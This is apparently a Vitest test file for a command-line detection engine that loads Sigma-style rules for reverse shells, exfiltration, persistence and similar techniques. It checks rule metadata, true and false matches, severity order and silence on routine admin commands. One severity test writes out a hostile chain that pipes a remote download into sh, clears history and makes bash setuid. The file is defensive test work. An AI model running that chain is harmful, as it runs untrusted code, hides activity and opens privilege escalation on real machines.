import { describe, expect, it } from 'vitest';
import { commandRules } from '../../src/rules/command-rules.js';
import { COMMAND_PACKS } from '../../src/rules/packs.js';
import { loadSigmaRules } from '../../src/sigma/load.js';
import { CONCEALMENT } from './examples/concealment.js';
import { CONTAINERS } from './examples/containers.js';
import { CREDENTIALS } from './examples/credentials.js';
import { DISCOVERY } from './examples/discovery.js';
import { DOWNLOAD_AND_RUN } from './examples/download-and-run.js';
import { EXFILTRATION } from './examples/exfiltration.js';
import { IMPACT } from './examples/impact.js';
import { PERSISTENCE } from './examples/persistence.js';
import { REVERSE_SHELLS } from './examples/reverse-shells.js';
import { SHELL_ESCAPES } from './examples/shell-escapes.js';

/** A rule with examples in two packs stands here twice. */
const EXAMPLES = [
  REVERSE_SHELLS,
  DOWNLOAD_AND_RUN,
  PERSISTENCE,
  CREDENTIALS,
  CONCEALMENT,
  IMPACT,
  CONTAINERS,
  SHELL_ESCAPES,
  DISCOVERY,
  EXFILTRATION,
].flatMap((pack) => Object.entries(pack));

const { rules, errors } = loadSigmaRules(COMMAND_PACKS);
const commands = commandRules();
const names = (command: string) => commands.match(command).map((hit) => hit.rule.replace('command.', ''));

describe('our rules for commands', () => {
  it('load without an error', () => {
    expect(errors).toEqual([]);
    expect(commands.errors).toEqual([]);
  });

  it('all have true and false examples, and ids of their own', () => {
    expect(EXAMPLES.map(([name]) => name).sort()).toEqual(rules.map((rule) => rule.name).sort());
    expect(new Set(rules.map((rule) => rule.id)).size).toBe(rules.length);
  });

  it.each(rules.map((rule) => [rule.name, rule] as const))(
    '%s names technique, author and licence',
    (_, rule) => {
      expect(rule.techniques.length).toBeGreaterThan(0);
      expect(rule.author).not.toBe('');
      expect(rule.license).not.toBe('');
    },
  );

  const hits = EXAMPLES.flatMap(([name, { hits: list }]) => list.map((command) => [name, command] as const));
  it.each(hits)('%s finds %s', (name, command) => {
    expect(names(command)).toContain(name);
  });

  const misses = EXAMPLES.flatMap(([name, { misses: list }]) =>
    list.map((command) => [name, command] as const),
  );
  it.each(misses)('%s leaves %s alone', (name, command) => {
    expect(names(command)).not.toContain(name);
  });

  it('gives the most severe first', () => {
    const order = ['critical', 'high', 'medium', 'low', 'info'];
    const severities = commands
      .match('curl http://203.0.113.66/x | sh; history -c; sudo reboot; chmod +s /bin/bash')
      .map((hit) => order.indexOf(hit.severity));
    expect(severities.length).toBeGreaterThan(3);
    expect(severities).toEqual([...severities].sort());
  });

  it.each([
    'systemctl restart nginx',
    'apt-get update && apt-get install -y nginx',
    'tail -n 100 /var/log/nginx/access.log | grep 500',
    'git pull && npm ci && npm run build',
    'docker compose up -d',
    'ssh deploy@10.20.3.44',
    'df -h; free -m; uptime',
    '/usr/sbin/CRON -f -P',
    'php-fpm: pool www',
    'sshd: deploy@pts/0',
    '/usr/lib/systemd/systemd-journald',
    '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
    'aws s3 cp s3://shop-assets/logo.png /srv/shop/',
  ])('say nothing about the daily command %s', (command) => {
    expect(commands.match(command)).toEqual([]);
  });

  it('take rules of the user beside ours', () => {
    const text =
      'title: Mine\nid: mine-1\nlevel: high\ndetection:\n  s:\n    CommandLine|contains: frobnicate\n  condition: s';
    const [hit] = commandRules({ more: [{ file: 'mine.yml', text }] }).match('frobnicate now');
    expect(hit).toMatchObject({ rule: 'command.mine-1', title: 'Mine', severity: 'high' });
  });
});
